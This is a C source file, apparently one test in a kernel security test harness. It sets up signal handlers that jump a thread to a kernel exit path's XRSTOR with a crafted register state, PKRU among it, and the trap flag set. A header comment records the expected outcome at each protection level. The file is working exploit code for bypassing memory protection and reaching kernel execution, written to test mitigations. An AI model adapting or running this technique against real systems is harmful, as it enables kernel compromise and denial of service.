/* none: succeeds: panic; keys: contained; full: contained */
#define ATTACK_OPENS
#include "attack.h"

/*
 * The way out's own XRSTOR, with PKRU among what it loads, and the trap flag: the step that follows finds all open, and an instruction
 * pointer in the kernel. Its stack is where the attacker may read; at none, in the kernel's alias of that.
 */
#define FRAME_XSTATE 192

static uint8_t memory[2 * PAGE] __attribute__((aligned(PAGE)));
static char handlers_stack[65536];

static void set_registers(int signal, siginfo_t *info, void *context)
{
	greg_t *r = ((ucontext_t *)context)->uc_mcontext.gregs;
	static int steps;

	(void)info;
	if (signal == SIGTRAP) {
		if (++steps > 100)
			_exit(4);
		return;
	}
	r[REG_RAX] = 0x200;
	r[REG_RDX] = 0;
	r[REG_RSP] = (greg_t)(strcmp(told("level"), "none") ? (uintptr_t)memory : alias_of(memory));
	r[REG_RIP] = (greg_t)at("way_out_xrstor");
	r[REG_EFL] |= 0x100;
}

int main(void)
{
	stack_t stack = { .ss_sp = handlers_stack, .ss_size = sizeof handlers_stack };
	struct sigaction action = { .sa_sigaction = set_registers, .sa_flags = SA_SIGINFO | SA_ONSTACK };

	memcpy(memory + FRAME_XSTATE, state_open, PAGE);
	sigaltstack(&stack, NULL);
	sigaction(SIGTRAP, &action, NULL);
	sigaction(SIGUSR1, &action, NULL);
	alarm(2);
	raise(SIGUSR1);
	return 0;
}
